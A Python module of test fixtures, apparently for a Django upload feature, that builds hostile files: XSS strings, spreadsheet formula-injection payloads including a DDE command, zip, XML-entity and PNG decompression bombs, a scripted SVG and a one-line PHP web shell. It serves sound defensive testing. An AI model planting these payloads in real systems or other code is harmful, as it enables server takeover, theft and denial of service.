"""Hostile and awkward files, made by the tests that use them (nothing is committed as a fixture).

Spreadsheets (rosters, sign-in sheets), images and documents: the generators write into a
directory the test gives (pytest's tmp_path) and return the path. Bombs stay small on disk:
they only *claim* huge sizes (a zip member of zeros, a PNG header declaring 50,000 × 50,000
pixels, a sheet whose <dimension> says it has a million rows); a file that must really be
over a size limit is written sparse (no disk blocks for its zeros).
"""

import csv
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

MB = 1024 * 1024

# Text that must come out escaped wherever it is shown, and text that must come out NFC.
SCRIPT = "<script>alert(1)</script>"
SCRIPT_FILE_NAME = "<img src=x onerror=alert(1)>"  # no "/": browsers and Django keep only a name's last part
NFD_ZERO_WIDTH = unicodedata.normalize("NFD", "Ảnh bìa\u200b lớp\u00a0Bát\u200d Tràng")  # NFD, ZWSP, NBSP, ZWJ
NFC_CLEAN = "Ảnh bìa lớp Bát Tràng"
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)"]


def vi(msgid: str, **params) -> str:
    """What a Vietnamese user reads for one of the project's messages: its translation in the
    catalogue (the English text until the catalogue has one), with its values filled in."""
    from django.utils import translation

    with translation.override("vi"):
        text = translation.gettext(msgid)
    return text % params if params else text


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# --------------------------------------------------------------------------- spreadsheets


def xlsx(path, rows, *, title=(), header=None, sheets=None):
    """A workbook: the title rows, the header, the data rows; `sheets` adds named sheets before it."""
    workbook = Workbook()
    sheet = workbook.active
    for row in [*title, *([header] if header is not None else []), *rows]:
        sheet.append(row)
    for name, extra in (sheets or {}).items():
        other = workbook.create_sheet(name, 0)
        for row in extra:
            other.append(row)
        workbook.active = 0
    workbook.save(path)
    return path


def rewrite_member(path, member, change):
    """Rewrite one part of an .xlsx (a zip) through `change(text) -> text`."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts[member] = change(parts[member].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def csv_file(path, rows, *, header, delimiter=",", encoding="utf-8-sig"):
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows([header, *rows])
    return write(path, buffer.getvalue().encode(encoding))


SHEET = "xl/worksheets/sheet1.xml"


def truncated(path):
    """The first half of the file, as an upload cut off on a slow line leaves it."""
    return write(path, path.read_bytes()[: path.stat().st_size // 2])


def sheet_xml_cut_off(path, after_rows=40):
    """A zip that opens, whose sheet XML stops in the middle of row `after_rows` + 1."""

    def cut(text):
        marker = f'<row r="{after_rows + 1}"'
        return text[: text.index(marker) + len(marker) + 5]

    return rewrite_member(path, SHEET, cut)


def encrypted_office(path):
    """What Excel or Word writes for "Encrypt with password": an OLE file with an EncryptionInfo stream."""
    body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptionInfo".encode("utf-16-le") + bytes(4096)
    return write(path, body)


def with_zip_bomb(path, megabytes=12):
    """Add a member of zeros that packs about 1000 to 1 (12 MB unpacked, a few kB in the file)."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.bin", bytes(megabytes * MB))
    return path


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
)


def with_entity_bomb(path, member=SHEET):
    """ "Billion laughs": the part declares entities that expand tenfold at each level."""
    return rewrite_member(path, member, lambda text: LAUGHS + text.split("?>", 1)[-1])


def with_false_dimension(path, ref="A1:XFD1048576"):
    """The sheet claims to span a million rows and every column (generators get <dimension> wrong)."""
    return rewrite_member(
        path, SHEET, lambda text: re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', text)
    )


def with_cell_at_last_row(path, value="ghi chú lạc"):
    """A stray cell in row 1,048,576: the sheet really has a million rows, all but a few empty."""
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    workbook.active["A1048576"] = value
    workbook.save(path)
    return path


def pdf_bytes() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def html_bytes() -> bytes:
    return b"<!doctype html><html><body><script>alert(document.cookie)</script><table><tr><td>x</td></tr></table>"


def word_zip(path):
    """A .docx (a zip with word/document.xml) under whatever name `path` has."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return path


def sparse(path, size, head=b""):
    """A file of `size` bytes: `head`, then zeros that take no disk space."""
    with open(path, "wb") as handle:
        handle.write(head)
        handle.truncate(size)
    return path


# --------------------------------------------------------------------------- images


def image_bytes(size=(1600, 900), fmt="PNG", color=(180, 40, 40), noise=False) -> bytes:
    from PIL import Image

    if noise:  # incompressible, so that half of the file is half of the picture
        image = Image.frombytes("RGB", size, bytes((i * 7919) % 251 for i in range(size[0] * size[1] * 3)))
    else:
        image = Image.new("RGB", size, color)
    output = io.BytesIO()
    image.save(output, fmt)
    return output.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width, height) -> bytes:
    """A PNG of a few hundred bytes whose header declares width × height pixels (a decompression
    bomb: the row data is one compressed run of zeros that would expand to width × height bytes)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compress(bytes(width + 1) * 4)  # only the first rows; a decoder would ask for more
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900" onload="alert(1)">'
        b"<script>alert(document.domain)</script><rect width='1600' height='900' fill='red'/></svg>"
    )


def php_script() -> bytes:
    return b"<?php system($_GET['c']); ?>\n"
